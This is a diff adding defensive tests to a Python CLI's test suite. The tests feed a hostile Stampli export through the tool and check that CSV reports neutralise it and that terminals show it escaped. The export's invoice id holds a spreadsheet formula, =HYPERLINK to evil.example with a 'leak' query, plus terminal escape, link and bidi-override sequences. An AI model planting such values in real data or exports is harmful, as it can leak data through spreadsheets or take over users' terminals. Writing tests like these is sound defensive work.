@@ -6,6 +6,8 @@ in-process SFTP server.
 """
 
 import contextlib
+import csv
+import io
 import os
 import threading
 from pathlib import Path
@@ -76,3 +78,87 @@ def test_state_backup_never_writes_through_a_link_planted_as_its_temporary(
     assert not backup.is_symlink()
     assert backup.stat().st_size > 0
     assert os.stat(backup).st_mode & 0o077 == 0
+
+
+# ---- hostile Stampli data in reports and on terminals -----------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak","open me")'
+# An OSC title change, an OSC 8 link, a C1 CSI, a bidi override and Rich markup.
+ESCAPES = (
+    "\x1b]0;pwned\x07"
+    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\"
+    "\x9b31m\u202e[bold red]RED[/]"
+)
+
+
+def hostile_capture(connected: Connected) -> int:
+    """A capture export whose invoice id is a formula, then control sequences and markup."""
+    stampli = pushed(connected)
+    bill = min(stampli.inbound_bills().values(), key=lambda b: b.fb_id)
+    stampli.invoice_id = lambda bill_id: FORMULA + ESCAPES  # type: ignore[method-assign]
+    stampli.export_captures([bill])
+    pulled = connected.run("pull-stampli", "--now")
+    assert pulled.code == 0, pulled.output
+    return bill.fb_id
+
+
+def run_on_a_terminal(home: Path, *args: str) -> str:
+    """The CLI with stdout on a pseudo-terminal (Rich renders its table); what it showed."""
+    import pty
+    import subprocess
+    import sys
+
+    from tests.support.cli import cli_env
+
+    controller, terminal = pty.openpty()
+    process = subprocess.Popen(
+        [sys.executable, "-m", "fbstampli", *args],
+        env=cli_env(home, {"TERM": "xterm-256color"}),
+        stdin=subprocess.DEVNULL,
+        stdout=terminal,
+        stderr=subprocess.PIPE,
+    )
+    os.close(terminal)
+    shown = b""
+    while True:
+        try:
+            chunk = os.read(controller, 65536)
+        except OSError:  # EIO: the program closed its end
+            break
+        if not chunk:
+            break
+        shown += chunk
+    os.close(controller)
+    assert process.wait(timeout=60) == 0
+    assert process.stderr is not None
+    process.stderr.close()
+    return shown.decode("utf-8", errors="replace")
+
+
+def assert_no_raw_controls(text: str) -> None:
+    for raw in ("\x1b]0;", "\x1b]8;", "\x07", "\x9b", "\u202e"):
+        assert raw not in text, repr(raw)
+
+
+def test_every_csv_report_neutralises_a_formula_from_stampli(connected: Connected) -> None:
+    fb_id = hostile_capture(connected)
+    audit = connected.run("audit", "--bill", str(fb_id), "--format", "csv")
+    assert audit.code == 0, audit.output
+    reconcile = connected.run("reconcile", "--format", "csv")
+    assert reconcile.code in (0, 1), reconcile.output
+    for text in (audit.stdout, reconcile.stdout):
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert any("HYPERLINK" in cell for cell in cells)  # the data is there, as text
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_hostile_export_fields_reach_the_terminal_inert(connected: Connected) -> None:
+    fb_id = hostile_capture(connected)
+    piped = connected.run("audit", "--bill", str(fb_id))
+    assert piped.code == 0
+    assert_no_raw_controls(piped.stdout)
+    assert "\\x1b]0;pwned" in piped.stdout  # shown, escaped, not obeyed
+    shown = run_on_a_terminal(connected.home, "audit", "--bill", str(fb_id))
+    assert_no_raw_controls(shown)
+    assert "bold red" in shown  # the markup is printed ...
+    assert "\x1b[1;31m" not in shown  # ... not applied
